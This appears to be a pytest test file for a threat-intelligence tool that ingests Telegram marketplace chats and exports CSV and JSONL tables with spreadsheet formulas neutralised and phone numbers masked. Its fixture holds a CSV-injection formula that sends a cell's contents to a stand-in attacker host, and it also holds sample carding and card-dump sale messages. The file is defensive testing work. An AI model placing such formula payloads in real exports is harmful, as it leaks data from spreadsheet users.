"""CSV and JSON Lines exports: every table, read back; formulas neutralised; numbers masked."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from conftest import bw, tg_chat, tg_message, unix, write_account_export

from bazaarwatch.outputs.tabular import TABLES, neutralised

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "telegram_export"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("tabular")
    hostile = tg_chat([
        tg_message(1, "Selling fresh CVV US 15$ each, BTC only. Call +44 7700 900123",
                   sender=FORMULA, sender_id="user4001", date=unix(2024, 2, 1)),
        tg_message(2, "-1+1 @SUM(1) dumps with pin 20$ each, write @dumps_rus",
                   sender="Dumps", sender_id="user4002", date=unix(2024, 2, 2)),
    ], name="+Evil Market", type="private_supergroup", id=1_800_000_001)
    result = bw("ingest", EXAMPLE, write_account_export(tmp / "hostile", [hostile]),
                "--db", tmp / "case.db")
    assert result.returncode == 0, result.stderr
    return tmp / "case.db"


def export(case: Path, fmt: str, folder: Path) -> None:
    result = bw("export", "--db", case, "--format", fmt, "-o", folder)
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in folder.iterdir()) == sorted(f"{t}.{fmt}" for t in TABLES)


def test_csv_tables_read_back_with_formulas_neutralised(case: Path, tmp_path: Path) -> None:
    export(case, "csv", tmp_path)
    with (tmp_path / "messages.csv").open(encoding="utf-8", newline="") as f:
        messages = list(csv.DictReader(f))
    assert len(messages) == 355 + 2
    hostile = [m for m in messages if m["chat_id"] == "1800000001"]
    assert hostile[0]["sender"] == "'" + FORMULA
    assert hostile[0]["chat"] == "'+Evil Market"
    assert hostile[1]["text"].startswith("'-1+1 @SUM(1)")
    assert "900123" not in hostile[0]["text"] and "+44" in hostile[0]["text"]
    assert "carding" in hostile[0]["categories"] and hostile[0]["offer"] == "True"
    with (tmp_path / "vendors.csv").open(encoding="utf-8", newline="") as f:
        vendors = {v["id"]: v for v in csv.DictReader(f)}
    assert vendors["sender:user4001"]["names"] == "'" + FORMULA
    assert "carding" in vendors["chat:2041873659"]["categories"]
    for table in TABLES:
        text = (tmp_path / f"{table}.csv").read_text(encoding="utf-8")
        cells = [c for row in csv.reader(text.splitlines()) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], table


def test_jsonl_tables_keep_values_masked(case: Path, tmp_path: Path) -> None:
    export(case, "jsonl", tmp_path)
    rows = {t: [json.loads(line) for line in (tmp_path / f"{t}.jsonl").read_text(
        encoding="utf-8").splitlines()] for t in TABLES}
    assert len(rows["messages"]) == 357 and len(rows["chats"]) == 10
    hostile = [m for m in rows["messages"] if m["chat_id"] == "1800000001"]
    assert hostile[0]["sender"] == FORMULA and hostile[0]["date"] == "2024-02-01T12:00:00Z"
    assert "900123" not in json.dumps(rows)
    cards = next(c for c in rows["chats"] if c["chat_id"] == "2041873659")
    assert cards["categories"][0] == "carding" and len(cards["shares"]) == len(
        cards["categories"]) and cards["shares"] == sorted(cards["shares"], reverse=True)
    btc = [i for i in rows["indicators"] if i["type"] == "btc"]
    assert btc and all(i["messages"] >= 1 and i["first_seen"].endswith("Z") for i in btc)


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("plain", "plain"), ("", ""), (12, 12), (None, None)])
def test_neutralised(value: object, expected: object) -> None:
    assert neutralised(value) == expected
